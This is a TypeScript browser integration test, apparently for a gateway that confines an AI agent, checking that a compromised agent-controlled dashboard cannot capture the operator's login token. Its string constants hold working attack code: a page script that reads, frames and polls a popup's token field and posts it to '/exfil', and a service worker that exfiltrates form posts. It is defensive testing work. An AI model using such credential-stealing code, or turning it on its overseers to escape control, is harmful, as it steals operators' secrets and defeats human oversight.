// The operator's login page against a malicious dashboard, in a real browser (Debian's Chromium,
// driven by playwright-core). The dashboard is the prisoner's code and runs on the dashboard
// origin; it tries every way a page has to get at the login form the gateway sends the operator
// to: read it with fetch, frame it, open it in a window and watch the token field. The same
// attack code against a form of its own origin (a decoy) does capture what is typed, so the
// attacks work and only the origin split stops them.
import * as crypto from 'crypto';
import * as fs from 'fs';
import * as http from 'http';
import type * as net from 'net';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { startGateway, testCert, waitFor, type TestGateway } from './helpers';

function spkiPin(certPem: string): string {
  const spki = new crypto.X509Certificate(certPem).publicKey.export({ type: 'spki', format: 'der' });
  return crypto.createHash('sha256').update(spki).digest('base64');
}

jest.setTimeout(120_000);

const CHROMIUM = process.env.CLAWJAIL_CHROMIUM ?? '/usr/bin/chromium';
const why = fs.existsSync(CHROMIUM) ? null : `${CHROMIUM} is missing (Debian package chromium; scripts/prereqs.sh installs it)`;
if (why) process.stderr.write(`browser.int: NOT APPLICABLE HERE: ${why}\n`);
const suite = why ? describe.skip : describe;

const DECOY = 'decoy-typed-into-a-same-origin-form';

/** The prisoner's dashboard: what OpenClaw would serve if the agent rewrote it. */
const DASHBOARD = `<!doctype html><html><head><meta charset="utf-8"><title>dashboard</title></head><body>
<h1>OpenClaw (compromised)</h1>
<script>
const report = (o) => fetch('/exfil', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(o) });
navigator.serviceWorker.register('/sw.js', { scope: '/' })
  .then(() => navigator.serviceWorker.ready)
  .then(() => report({ kind: 'sw', ok: true }), (e) => report({ kind: 'sw', ok: false, error: String(e) }));
document.cookie = 'probe=visible; path=/; secure';
report({ kind: 'cookie', cookie: document.cookie });
async function attack(url, label) {
  const r = { kind: 'attack', label, errors: [] };
  try {
    const res = await fetch(url, { credentials: 'include' });
    r.fetchStatus = res.status;
    r.fetchUrl = res.url;
    r.fetchSawForm = (await res.text()).includes('name="token"');
  } catch (e) { r.errors.push('fetch: ' + e.name); }
  const f = document.createElement('iframe');
  f.src = url;
  document.body.appendChild(f);
  await new Promise((done) => { f.onload = done; setTimeout(done, 3000); });
  try { r.frameSawForm = Boolean(f.contentDocument && f.contentDocument.querySelector('input[name=token]')); }
  catch (e) { r.errors.push('frame: ' + e.name); }
  report(r);
  const w = window.open(url, label);
  let sent = '';
  let lastError = '';
  const timer = setInterval(() => {
    try {
      const input = w.document.querySelector('input[name=token]');
      if (input && input.value && input.value !== sent) { sent = input.value; report({ kind: 'stolen', label, value: input.value }); }
    } catch (e) {
      const name = 'popup: ' + e.name;
      if (name !== lastError) { lastError = name; report({ kind: 'popup-error', label, error: name, closed: w.closed }); }
    }
  }, 20);
  setTimeout(() => clearInterval(timer), 60000);
}
// The login page the gateway itself sends an unauthenticated browser to, and a decoy of our own origin.
attack('/__clawjail/login?next=%2F', 'gateway-login');
attack('/decoy-login', 'decoy');
</script></body></html>`;

/** A service worker of the dashboard's origin: it sees every request of that origin, form posts included. */
const SERVICE_WORKER = `
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => {
  if (e.request.method !== 'POST' || e.request.url.endsWith('/exfil')) return;
  e.respondWith((async () => {
    const body = await e.request.clone().text();
    await fetch('/exfil', { method: 'POST', headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ kind: 'stolen', label: 'service-worker', value: body }) });
    return fetch(e.request);
  })());
});`;

/** The service worker alone: registered from wherever this page is served. */
const SW_PROBE = `<!doctype html><html><body><script>
navigator.serviceWorker.register('/sw.js', { scope: '/' }).then(() => navigator.serviceWorker.ready).then(
  () => fetch('/exfil', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ kind: 'sw-probe', ok: true }) }),
  (e) => fetch('/exfil', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ kind: 'sw-probe', ok: false, error: String(e) }) }));
</script></body></html>`;

/** What a cached dashboard would show after the session ended: its own token prompt. */
const CACHED = `<!doctype html><html><body><h1 id="cached">cached dashboard</h1></body></html>`;

const DECOY_FORM = `<!doctype html><html><body><form method="post" action="/nowhere">
<input type="password" name="token"><button type="submit">go</button></form></body></html>`;

interface Exfil {
  kind: string;
  ok?: boolean;
  label?: string;
  value?: string;
  error?: string;
  cookie?: string;
  errors?: string[];
  fetchSawForm?: boolean;
  frameSawForm?: boolean;
}

/** A fake OpenClaw that serves the malicious dashboard and records everything it receives. */
async function startMaliciousUpstream(): Promise<{ url: string; port: number; exfil: Exfil[]; received: string[]; close(): Promise<void> }> {
  const exfil: Exfil[] = [];
  const received: string[] = [];
  const server = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      received.push(JSON.stringify({ url: req.url, headers: req.headers, body }));
      const path = (req.url ?? '/').split('?')[0];
      if (path === '/exfil' && req.method === 'POST') {
        exfil.push(JSON.parse(body) as Exfil);
        return void res.writeHead(204).end();
      }
      if (path === '/sw.js') return void res.writeHead(200, { 'Content-Type': 'text/javascript' }).end(SERVICE_WORKER);
      if (path === '/nowhere') return void res.writeHead(200, { 'Content-Type': 'text/html' }).end('ok');
      if (path === '/sw-probe') return void res.writeHead(200, { 'Content-Type': 'text/html' }).end(SW_PROBE);
      // A page the browser may keep for a year without asking again.
      if (path === '/cached') return void res.writeHead(200, { 'Content-Type': 'text/html', 'Cache-Control': 'public, max-age=31536000, immutable' }).end(CACHED);
      if (path === '/decoy-login') return void res.writeHead(200, { 'Content-Type': 'text/html' }).end(DECOY_FORM);
      if (path === '/') return void res.writeHead(200, { 'Content-Type': 'text/html' }).end(DASHBOARD);
      res.writeHead(404).end();
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  const port = (server.address() as net.AddressInfo).port;
  return {
    url: `ws://127.0.0.1:${port}`,
    port,
    exfil,
    received,
    async close() {
      server.closeAllConnections();
      await new Promise<void>((r) => server.close(() => r()));
    },
  };
}

suite('the login page against a malicious dashboard, in headless Chromium', () => {
  let up: Awaited<ReturnType<typeof startMaliciousUpstream>>;
  let gw: TestGateway;
  let browser: Browser;
  let context: BrowserContext;

  beforeAll(async () => {
    up = await startMaliciousUpstream();
    gw = await startGateway({ upstreamUrl: up.url });
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      headless: true,
      // This machine has no network: keep Chromium from calling home at all.
      // The gateway's certificate trusted by its key (a pin), so the pages are a secure context
      // without certificate errors, where a service worker can be registered.
      args: [`--ignore-certificate-errors-spki-list=${spkiPin(testCert().certPem)}`, '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
    });
    context = await browser.newContext();
  });
  afterAll(async () => {
    await context?.close();
    await browser?.close();
    await gw?.close();
    await up?.close();
  });

  it('cannot read, frame or watch the token form; the same attack on a same-origin form captures what is typed', async () => {
    const dashboard = `https://127.0.0.1:${gw.port}`;
    const loginOrigin = `https://127.0.0.1:${gw.loginPort}`;
    const page = await context.newPage();

    // The operator opens the dashboard, is sent to the login origin, logs in, and lands back.
    await page.goto(`${dashboard}/`);
    const loggedInAt = new URL(page.url()).origin;
    await page.fill('input[name=token]', gw.token);
    const popups: Page[] = [];
    context.on('page', (p) => popups.push(p));
    await Promise.all([page.waitForURL(`${dashboard}/`), page.click('button[type=submit]')]);

    // The dashboard's two popups: the gateway's login page (on the login origin) and the decoy.
    await waitFor(() => popups.length >= 2, 20_000, 'the dashboard to open its two windows');
    const byUrl = async (part: string) => {
      await waitFor(() => popups.some((p) => p.url().includes(part)), 20_000, `a window on ${part}`);
      return popups.find((p) => p.url().includes(part))!;
    };
    const loginPopup = await byUrl('/__clawjail/login');
    const decoyPopup = await byUrl('/decoy-login');
    await loginPopup.waitForSelector('input[name=token]');
    const loginPopupOrigin = new URL(loginPopup.url()).origin;
    await decoyPopup.waitForSelector('input[name=token]');

    // The dashboard cannot install a service worker through the gateway (one would outlive the
    // session and could answer the next visit with a login form of its own) ...
    await waitFor(() => up.exfil.some((e) => e.kind === 'sw'), 15_000, 'the service worker registration to end');
    expect(up.exfil.find((e) => e.kind === 'sw')).toMatchObject({ ok: false });
    // ... while the same registration works where nothing refuses it: the upstream itself
    // (http on loopback is a secure context).
    const direct = await context.newPage();
    await direct.goto(`http://127.0.0.1:${up.port}/sw-probe`);
    await waitFor(() => up.exfil.some((e) => e.kind === 'sw-probe'), 15_000, 'the direct service worker probe');
    expect(up.exfil.find((e) => e.kind === 'sw-probe')).toMatchObject({ ok: true });
    await direct.close();

    // The operator types into both; the decoy is the attacks' control.
    await decoyPopup.fill('input[name=token]', DECOY);
    await waitFor(() => up.exfil.some((e) => e.kind === 'stolen' && e.label === 'decoy'), 15_000, 'the attack to capture the decoy');
    await loginPopup.fill('input[name=token]', gw.token);
    await Promise.all([loginPopup.waitForURL(`${dashboard}/`), loginPopup.click('button[type=submit]')]);
    await new Promise((r) => setTimeout(r, 1_500)); // time for any late report

    const attacks = up.exfil.filter((e) => e.kind === 'attack');
    const onLogin = attacks.filter((e) => e.label === 'gateway-login');
    const onDecoy = attacks.filter((e) => e.label === 'decoy');
    expect(onDecoy.length).toBeGreaterThan(0);
    expect(onLogin.length).toBeGreaterThan(0);
    // Control: on its own origin, every technique works.
    expect(onDecoy[0]).toMatchObject({ fetchSawForm: true, frameSawForm: true, errors: [] });
    expect(up.exfil.filter((e) => e.kind === 'stolen' && e.label === 'decoy').map((e) => e.value)).toContain(DECOY);
    // The token typed into the gateway's login page never reaches the dashboard: not by watching
    // the field, nor through the service worker, nor in any other report.
    for (const e of up.exfil) expect(JSON.stringify(e)).not.toContain(gw.token);
    expect(up.exfil.filter((e) => e.kind === 'stolen' && e.label === 'gateway-login')).toEqual([]);
    // Against the gateway's login page: fetch fails (cross-origin, no CORS), the frame is empty or
    // refused, and the window is out of reach.
    for (const a of onLogin) {
      expect(a.fetchSawForm).not.toBe(true);
      expect(a.frameSawForm).not.toBe(true);
      expect(a.errors!.some((e) => e.startsWith('fetch: '))).toBe(true);
    }
    expect(up.exfil.some((e) => e.kind === 'popup-error' && e.label === 'gateway-login')).toBe(true);
    // The session cookie is not readable by the dashboard's script (its own cookie is).
    const cookies = up.exfil.filter((e) => e.kind === 'cookie').map((e) => e.cookie ?? '');
    expect(cookies.length).toBeGreaterThan(0);
    for (const c of cookies) {
      expect(c).toContain('probe=visible');
      expect(c).not.toContain('clawjail-session');
    }
    // Nothing the prisoner received, in any header, URL or body, carries the operator token.
    expect(up.received.length).toBeGreaterThan(3);
    for (const r of up.received) expect(r).not.toContain(gw.token);
    expect(loggedInAt).toBe(loginOrigin);
    expect(loginPopupOrigin).toBe(loginOrigin);
    // The logins took place on the login origin (two: the first, and the one in the window).
    expect(gw.logs.filter((l) => l.msg === 'browser session opened').length).toBe(2);
  });

  it('a dashboard page the prisoner marks cacheable for a year is asked for again once the session is over', async () => {
    const dashboard = `https://127.0.0.1:${gw.port}`;
    const loginOrigin = `https://127.0.0.1:${gw.loginPort}`;
    const seen = (p: string) => up.received.filter((r) => (JSON.parse(r) as { url: string }).url === p).length;
    // Control: the browser does keep such a page without asking (served straight from the upstream).
    const direct = await context.newPage();
    await direct.goto(`http://127.0.0.1:${up.port}/cached`);
    await direct.goto('about:blank');
    await direct.goto(`http://127.0.0.1:${up.port}/cached`);
    expect(await direct.textContent('#cached')).toBe('cached dashboard');
    expect(seen('/cached')).toBe(1);
    await direct.close();

    const page = await context.newPage();
    await page.goto(`${loginOrigin}/__clawjail/login?next=%2Fcached`);
    await page.fill('input[name=token]', gw.token);
    await Promise.all([page.waitForURL(`${dashboard}/cached`), page.click('button[type=submit]')]);
    expect(await page.textContent('#cached')).toBe('cached dashboard');
    const before = seen('/cached');
    // The operator logs out; the next visit must reach the gateway, which sends it to log in.
    await page.goto(`${loginOrigin}/__clawjail/login`);
    await Promise.all([page.waitForURL(`${loginOrigin}/__clawjail/login`), page.click('form[action="/__clawjail/logout"] button')]);
    await page.goto(`${dashboard}/cached`);
    expect(new URL(page.url()).origin).toBe(loginOrigin);
    expect(await page.$('input[name=token]')).not.toBeNull();
    expect(seen('/cached')).toBe(before); // the gateway refused it before the upstream saw it
    await page.close();
  });
});
